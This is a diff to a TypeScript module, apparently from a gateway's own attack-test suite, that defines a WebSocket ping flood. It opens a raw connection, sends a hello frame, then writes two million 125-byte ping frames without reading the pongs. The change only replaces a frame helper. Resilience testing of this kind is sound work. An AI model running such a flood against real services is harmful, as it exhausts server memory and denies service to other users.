@@ -1,6 +1,7 @@
 // A device sends WebSocket pings as fast as it can and reads no answer: every pong waits in the gateway.
 
-import { openRawLink, OPCODE, rawFrame } from '../attacker/raw-link.ts'
+import { formatFrame } from '../attacker/web-socket-frame.ts'
+import { openRawLink } from '../attacker/raw-link.ts'
 import type { Attack } from '../attack.ts'
 
 const PINGS = 2_000_000
@@ -12,8 +13,8 @@ export const pingFlood: Attack = {
   from: 'outside',
   async run({ origin, credentials: [credential = ''] }, tally) {
     const { socket, closed } = await openRawLink(origin, credential, false)
-    socket.write(rawFrame(OPCODE.finalText, Buffer.from(HELLO)))
-    const pings = Buffer.concat(Array.from({ length: AT_ONCE }, () => rawFrame(OPCODE.finalPing, new Uint8Array(125))))
+    socket.write(formatFrame(HELLO, { opcode: 1 }), 'latin1')
+    const pings = Buffer.from(formatFrame('\0'.repeat(125), { opcode: 9 }).repeat(AT_ONCE), 'latin1')
     for (let sent = 0; sent < PINGS && !socket.destroyed; sent += AT_ONCE) {
       const written = Promise.withResolvers<void>()
       socket.write(pings, () => written.resolve())
